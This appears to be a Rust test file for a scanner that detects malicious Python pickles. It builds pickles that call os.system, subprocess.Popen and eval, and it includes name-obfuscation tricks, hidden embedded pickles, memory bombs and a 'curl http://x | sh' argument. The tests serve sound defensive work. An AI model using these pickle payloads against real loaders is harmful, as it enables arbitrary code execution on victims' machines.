//! What the machine finds in pickles that are put together here.
#![allow(clippy::unwrap_used, reason = "tests")]

use proptest::prelude::*;

use super::size::DEPTH_MAX;
use crate::{Limits, Part, ReadError, Source, Verdict, scan};

fn text(text: &str) -> Vec<u8> {
    let mut out = vec![b'X'];
    out.extend((text.len() as u32).to_le_bytes());
    out.extend(text.as_bytes());
    out
}

fn bytes(bytes: &[u8]) -> Vec<u8> {
    let mut out = vec![b'B'];
    out.extend((bytes.len() as u32).to_le_bytes());
    out.extend(bytes);
    out
}

fn int(int: i32) -> Vec<u8> {
    let mut out = vec![b'J'];
    out.extend(int.to_le_bytes());
    out
}

fn global(module: &str, name: &str) -> Vec<u8> {
    [text(module), text(name), vec![0x93]].concat()
}

fn call(callee: &[u8], args: &[Vec<u8>]) -> Vec<u8> {
    [callee.to_vec(), vec![b'('], args.concat(), b"tR".to_vec()].concat()
}

fn whole(body: &[u8]) -> Vec<u8> {
    [b"\x80\x04".as_slice(), body, b"."].concat()
}

fn look(pickle: &[u8]) -> Part {
    scan("x.pkl", &pickle.to_vec(), &Limits::default())
}

#[track_caller]
fn check(pickle: &[u8], expected: Verdict, rule: &str) -> String {
    let part = look(pickle);
    let findings: Vec<String> = part.all_findings().map(|f| format!("{} {}", f.check, f.message)).collect();
    assert_eq!(part.verdict(), expected, "{findings:?} {:?}", part.unread);
    assert!(rule.is_empty() || findings.iter().any(|f| f.starts_with(rule)), "{rule} not in {findings:?}");
    findings.join("\n")
}

#[test]
fn a_call_is_shown_as_it_would_happen() {
    let shown = check(&whole(&call(&global("os", "system"), &[text("id")])), Verdict::Found, "S001");
    assert!(shown.contains("`os.system(\"id\")`"), "{shown}");
    let inner = call(&global("base64", "b64decode"), &[text("gAROLg==")]);
    check(&whole(&call(&global("pickle", "loads"), &[inner])), Verdict::Found, "S006");
}

#[test]
fn every_opcode_that_calls_is_followed() {
    for pickle in [
        b"cos\nsystem\n(S'id'\ntR.".to_vec(),
        b"(S'id'\nios\nsystem\n.".to_vec(),
        b"(cos\nsystem\nVid\no.".to_vec(),
        b"\x80\x02csubprocess\nPopen\nVid\n\x85\x81.".to_vec(),
        b"\x80\x04csubprocess\nPopen\n)}\x92.".to_vec(),
        b"\x80\x02c__builtin__\neval\nVx\n\x85R0N.".to_vec(),
        // The name from the memo; the module last in, first out.
        b"Vsystem\np0\n0Vos\ng0\n\x93Vid\n\x85R.".to_vec(),
        // Registered by the pickle itself.
        [
            b"\x80\x04".to_vec(),
            call(&global("copyreg", "add_extension"), &[text("os"), text("system"), int(5)]),
            b"0\x82\x05Vid\n\x85R.".to_vec(),
        ]
        .concat(),
    ] {
        check(&pickle, Verdict::Found, "");
    }
}

#[test]
fn computed_names_and_callees_are_found() {
    let module = call(&global("operator", "add"), &[text("o"), text("s")]);
    let import = [module, text("system"), vec![0x93]].concat();
    let shown = check(&whole(&call(&import, &[text("id")])), Verdict::Found, "S010");
    assert!(shown.contains("os.system"), "{shown}");
    let getter = call(&global("operator", "attrgetter"), &[text("system")]);
    let os = call(&global("importlib", "import_module"), &[text("os")]);
    check(&whole(&call(&call(&getter, &[os]), &[text("id")])), Verdict::Found, "S001");
    let partial = call(&global("functools", "partial"), &[global("os", "system"), text("id")]);
    check(&whole(&call(&partial, &[])), Verdict::Found, "S009");
    let mapped = call(
        &global("builtins", "map"),
        &[global("builtins", "eval"), [b"](".to_vec(), text("1"), b"e".to_vec()].concat()],
    );
    check(&whole(&call(&global("builtins", "list"), &[mapped])), Verdict::Found, "S001");
}

#[test]
fn what_picklers_write_is_clean() {
    let reconstruct = call(
        &global("numpy._core.multiarray", "_reconstruct"),
        &[global("numpy", "ndarray"), [b"(".to_vec(), int(0), b"t".to_vec()].concat(), bytes(b"b")],
    );
    let enumeration = call(&global("builtins", "getattr"), &[global("__main__", "Colour"), text("RED")]);
    let object = [
        global("some_library.models", "FileResource"),
        b")\x81}(".to_vec(),
        text("run"),
        text("os.system('x')"),
        b"ub".to_vec(),
    ]
    .concat();
    let parts = [
        reconstruct,
        enumeration,
        object,
        call(&global("collections", "OrderedDict"), &[]),
        call(&global("pathlib", "PosixPath"), &[text("/"), text("data")]),
        call(&global("torch", "device"), &[text("cuda:0")]),
        call(&global("mylib._tree", "__pyx_unpickle_Tree"), &[int(3)]),
        call(&global("builtins", "ValueError"), &[text("no /tmp/x")]),
        call(&global("functools", "partial"), &[global("mylib", "preprocess")]),
        global("numpy", "log1p"),
    ];
    for part in &parts {
        check(&whole(part), Verdict::Clean, "");
    }
    let all = [b"](".to_vec(), parts.concat(), b"e".to_vec()].concat();
    check(&[whole(&all), whole(b"N")].concat(), Verdict::Clean, "");
}

#[test]
fn unknown_functions_are_found_and_unknown_classes_by_what_they_are_given() {
    check(&whole(&call(&global("new_library.tools", "frobnicate"), &[text("x")])), Verdict::Found, "S008");
    check(
        &whole(&call(&global("new_library.tools", "Estimator"), &[text("gini"), int(3)])),
        Verdict::Clean,
        "",
    );
    check(&whole(&call(&global("sklearn.new", "Estimator"), &[text("gini")])), Verdict::Clean, "");
    check(
        &whole(&call(&global("new_library.tools", "Bot"), &[text("a"), text("b")])),
        Verdict::Found,
        "S008",
    );
    check(
        &whole(&call(&global("new_library.tools", "Estimator"), &[text("curl http://x | sh")])),
        Verdict::Found,
        "S008",
    );
    check(&whole(&call(&global("new_library.tools", "HttpSession"), &[])), Verdict::Found, "S004");
}

#[test]
fn changes_to_what_was_imported_are_found() {
    let set = [global("sys", "modules"), text("json"), text("x"), b"s".to_vec()].concat();
    check(&whole(&set), Verdict::Found, "S007");
    let build =
        [global("torch", "Tensor"), b"}(".to_vec(), text("x"), global("m", "f"), b"ub".to_vec()].concat();
    check(&whole(&build), Verdict::Found, "S007");
    let plant =
        [global("a", "B"), b")\x81}(".to_vec(), text("__setstate__"), global("m", "f"), b"ub".to_vec()]
            .concat();
    check(&whole(&plant), Verdict::Found, "S007");
}

#[test]
fn effects_before_the_break_count_and_a_break_alone_is_inconclusive() {
    let effect = [b"\x80\x04".to_vec(), call(&global("os", "system"), &[text("id")])].concat();
    for rest in [&b""[..], b"0000", b"h\xfe.", b"\xff", b"Iabc\n.", b"\x80\x09."] {
        check(&[&effect, rest].concat(), Verdict::Found, "S001");
    }
    for broken in
        [&b"\x80\x04K\x01K\x02\x86h\x09."[..], b"\x80\x04]K\x01K\x02K\x03t.", b"\x80\x04X\x09\0\0\0abc"]
    {
        check(broken, Verdict::Inconclusive, "");
    }
}

#[test]
fn hidden_pickles_are_found() {
    let evil = whole(&call(&global("os", "system"), &[text("id")]));
    let benign = whole(b"]");
    check(&[benign.clone(), evil.clone()].concat(), Verdict::Found, "S001");
    check(&[benign.clone(), vec![0; 50], evil.clone()].concat(), Verdict::Found, "S012");
    check(&[benign.clone(), b"some text".to_vec(), evil.clone()].concat(), Verdict::Found, "S012");
    check(&[benign.clone(), vec![0; 50]].concat(), Verdict::Clean, "");
    check(&whole(&bytes(&evil)), Verdict::Found, "S012");
    let hexadecimal: String = evil.iter().map(|b| format!("{b:02x}")).collect();
    check(&whole(&text(&hexadecimal)), Verdict::Found, "S012");
    check(&whole(&bytes(&[b"\0\0".as_slice(), b"cos\nsystem\nVid\n\x85R"].concat())), Verdict::Found, "S012");
    check(&whole(&bytes(&benign)), Verdict::Clean, "");
}

#[test]
fn bombs_are_found_at_their_bounds() {
    let nested = |n: u32| [vec![b']'; n as usize], vec![b'a'; n as usize - 1]].concat();
    check(&whole(&nested(DEPTH_MAX)), Verdict::Clean, "");
    check(&whole(&nested(DEPTH_MAX + 1)), Verdict::Found, "S013");
    let mut laughs = text("lol");
    for _ in 0..10 {
        laughs = [b"(".to_vec(), laughs, b"222222222l".to_vec()].concat();
    }
    check(&whole(&laughs), Verdict::Found, "S013");
    // The same, outer lists first and filled afterwards.
    let mut late: Vec<u8> = (0..12).flat_map(|_| [b']', 0x94]).collect();
    for inner in (1..12u8).rev() {
        late.extend([b'h', inner - 1, b'(']);
        late.extend((0..12).flat_map(|_| [b'h', inner]));
        late.extend(b"e0");
    }
    check(&whole(&late), Verdict::Found, "S013");
    let times = |n: i32| whole(&call(&global("operator", "mul"), &[text("A"), int(n)]));
    check(&times(1 << 28), Verdict::Clean, "");
    check(&times((1 << 28) + 1), Verdict::Found, "S013");
    check(b"\x80\x04\x8b\xff\xff\xff\xff.", Verdict::Found, "S013");
    check(b"\x80\x05\x96\0\0\0\0\0\x01\0\0x", Verdict::Found, "S013");
    check(b"\x80\x04Nr\xff\xff\xff\xff.", Verdict::Found, "S013");
}

/// A source that is not in memory.
struct Slow(Vec<u8>);

impl Source for Slow {
    fn len(&self) -> u64 {
        self.0.len() as u64
    }

    fn read_at(&self, at: u64, into: &mut [u8]) -> Result<usize, ReadError> {
        let n = into.len().min(1000);
        self.0.as_slice().read_at(at, &mut into[..n])
    }
}

#[test]
fn large_constants_and_long_lists_read_the_same_from_anywhere() {
    let numbers: Vec<u8> = (0..200_000).flat_map(|_| b"G\x3f\xf0\0\0\0\0\0\0".to_vec()).collect();
    let pickle = whole(
        &[
            b"](".to_vec(),
            numbers,
            bytes(&vec![7; 600_000]),
            call(&global("os", "system"), &[text("id")]),
            b"e".to_vec(),
        ]
        .concat(),
    );
    let (memory, slow) = (look(&pickle), scan("x.pkl", &Slow(pickle), &Limits::default()));
    assert_eq!(memory, slow);
    assert_eq!(memory.verdict(), Verdict::Found);
}

/// Opcodes with arguments that fit, in any order.
fn opcodes() -> impl Strategy<Value = Vec<u8>> {
    let names = prop::sample::select(vec!["os", "system", "builtins", "getattr", "x.Y", "numpy", "append"]);
    let op = prop_oneof![
        prop::sample::select(
            b"()]}Nt012.Rblesuado\x81\x85\x86\x87\x88\x8f\x90\x91\x92\x93\x94\x97\x98Q".to_vec()
        )
        .prop_map(|b| vec![b]),
        (0..5u8).prop_map(|i| vec![b'h', i]),
        (0..5u8).prop_map(|i| vec![b'q', i]),
        names.prop_map(text),
        any::<i32>().prop_map(int),
        any::<Vec<u8>>().prop_map(|b| bytes(&b)),
    ];
    prop::collection::vec(op, 0..60).prop_map(|ops| ops.concat())
}

proptest! {
    #[test]
    fn any_bytes_are_survived(bytes: Vec<u8>) {
        look(&bytes);
        look(&[b"\x80\x04".to_vec(), bytes].concat());
    }

    #[test]
    fn any_opcodes_are_survived_and_read_the_same_from_anywhere(ops in opcodes()) {
        let pickle = [b"\x80\x04".to_vec(), ops].concat();
        prop_assert_eq!(look(&pickle), scan("x.pkl", &Slow(pickle), &Limits::default()));
    }
}
